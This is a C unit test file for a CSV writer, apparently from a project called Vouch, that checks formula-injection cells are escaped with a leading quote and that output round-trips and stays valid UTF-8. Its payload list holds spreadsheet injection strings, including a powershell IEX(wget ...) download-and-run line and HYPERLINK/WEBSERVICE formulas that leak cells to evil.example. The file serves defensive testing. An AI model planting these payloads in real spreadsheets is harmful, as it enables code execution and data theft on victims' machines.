/* SPDX-License-Identifier: GPL-3.0-or-later
 * SPDX-FileCopyrightText: 2026 The Vouch authors
 */
#define G_LOG_DOMAIN "vouch-test"

#include <string.h>

#include "base/vouch-csv.h"

/* What a spreadsheet could take for a formula. */
static const char *const payloads[] = {
  "=1+1",
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget 0r.example/p)'!A0",
  "=HYPERLINK(\"http://evil.example/?leak=\"&A1&B1,\"Click\")",
  "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
  "=IMPORTDATA(\"http://evil.example/\")",
  "=WEBSERVICE(\"http://evil.example/\"&A1)",
  "=DDE(\"cmd\";\"/C calc\";\"x\")",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "='file:///etc/passwd'#$passwd.A1",
  "=A1",
  "=\"\"",
  "=",
  "==",
  "=-1",
  "=@SUM(1)",
  "=\n1",
  "+1",
  "+",
  "+1+1",
  "+cmd|' /C calc'!A0",
  "+SUM(A1:A9)",
  "+44 20 7946 0000",
  "+\"a\"",
  "-1",
  "-",
  "--1",
  "-2+3",
  "-2+3+cmd|' /C calc'!A0",
  "-(1)",
  "-@SUM(1)",
  "\xe2\x88\x92" "1",
  "\xe2\x88\x92" "2+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@",
  "@A1",
  "@@",
  "\t=1+1",
  "\t",
  "\ttext",
  "\t+1",
  "\r=1+1",
  "\r",
  "\rtext",
  "\r\n=1+1",
  "\n=1+1",
  "\xef\xbc\x9d" "1+1",
  "\xef\xbc\x8b" "1",
  "\xef\xbc\x8d" "1",
  "\xef\xbc\xa0" "SUM(1)",
  "\xef\xbc\x9d",
  "\xef\xb9\xa6" "1",
  "\xef\xb9\xa2" "1",
  "\xef\xb9\xa3" "1",
  "\xef\xb9\xab" "SUM(1)",
  " =1+1",
  "  \t=1+1",
  "\xc2\xa0=1+1",
  "\xef\xbb\xbf=1+1",
  "\xe2\x80\x8b=1+1",
  "\x0b=1+1",
  "'=1+1",
  "''@A1",
};

G_STATIC_ASSERT (G_N_ELEMENTS (payloads) == 64);

static const char *const harmless[] = {
  "", "a", "Ada Lovelace", "a=b", "1-2", "ada@example.com", "x\ty", "'", "'a", "''", "O'Neil", " a",
  "2026-02-03T04:05:06Z", "(1)", "*", "/", "\"", "\"\"", "a,b", "a\r\nb", ";=1", "\xc3\xa9", "%",
};

static char *
write_one (const char *cell)
{
  g_autoptr(GString) text = g_string_new (NULL);

  vouch_csv_append_row (text, &cell, 1);
  return g_string_free (g_steal_pointer (&text), FALSE);
}

static char *
double_quotes (const char *cell)
{
  g_autoptr(GString) text = g_string_new (cell);

  g_string_replace (text, "\"", "\"\"", 0);
  return g_string_free (g_steal_pointer (&text), FALSE);
}

static void
test_formulas (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (payloads); i++)
    {
      g_autofree char *written = write_one (payloads[i]);
      g_autofree char *doubled = double_quotes (payloads[i]);
      g_autofree char *expected = g_strconcat ("\"'", doubled, "\"\r\n", NULL);

      g_assert_cmpstr (written, ==, expected);
    }
}

/* Names and addresses stay as they are. */
static void
test_harmless (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (harmless); i++)
    {
      g_autofree char *written = write_one (harmless[i]);
      g_autofree char *doubled = double_quotes (harmless[i]);
      g_autofree char *expected = g_strconcat ("\"", doubled, "\"\r\n", NULL);

      g_assert_cmpstr (written, ==, expected);
    }
}

static void
test_row (void)
{
  const char *const cells[] = { "id", NULL, "a \"b\", c", "line\nline", "-" };
  g_autoptr(GString) text = g_string_new ("x\r\n");

  vouch_csv_append_row (text, cells, G_N_ELEMENTS (cells));
  vouch_csv_append_row (text, cells, 1);
  vouch_csv_append_row (text, cells, 0);

  g_assert_cmpstr (text->str, ==,
                   "x\r\n"
                   "\"id\",\"\",\"a \"\"b\"\", c\",\"line\nline\",\"'-\"\r\n"
                   "\"id\"\r\n"
                   "\r\n");
}

/* Whatever comes in, UTF-8 goes out. */
static void
test_utf8 (void)
{
  static const char *const broken[] = { "\xff", "a\xc3", "\xe2\x82", "\xed\xa0\x80", "\xc0\xbd=1" };

  for (guint i = 0; i < G_N_ELEMENTS (broken); i++)
    {
      g_autofree char *written = write_one (broken[i]);

      g_assert_true (g_utf8_validate (written, -1, NULL));
      g_assert_nonnull (strstr (written, "\xef\xbf\xbd"));
    }
}

static void
check_original (const char *text)
{
  g_autofree char *written = write_one (text);
  g_autoptr(GBytes) bytes = g_bytes_new (written, strlen (written));
  g_autoptr(VouchCsvReader) reader = vouch_csv_reader_new (bytes, NULL);
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) row = vouch_csv_reader_read_row (reader, &error);
  g_autofree char *original = NULL;

  g_assert_no_error (error);
  g_assert_cmpuint (row->len, ==, 1);
  original = vouch_csv_dup_original (row->pdata[0]);
  g_assert_cmpstr (original, ==, text);
  g_assert_null (vouch_csv_reader_read_row (reader, &error));
  g_assert_no_error (error);
}

static void
test_round_trip (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (payloads); i++)
    check_original (payloads[i]);
  for (guint i = 0; i < G_N_ELEMENTS (harmless); i++)
    check_original (harmless[i]);
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/csv/formulas", test_formulas);
  g_test_add_func ("/csv/harmless", test_harmless);
  g_test_add_func ("/csv/row", test_row);
  g_test_add_func ("/csv/utf8", test_utf8);
  g_test_add_func ("/csv/round-trip", test_round_trip);

  return g_test_run ();
}
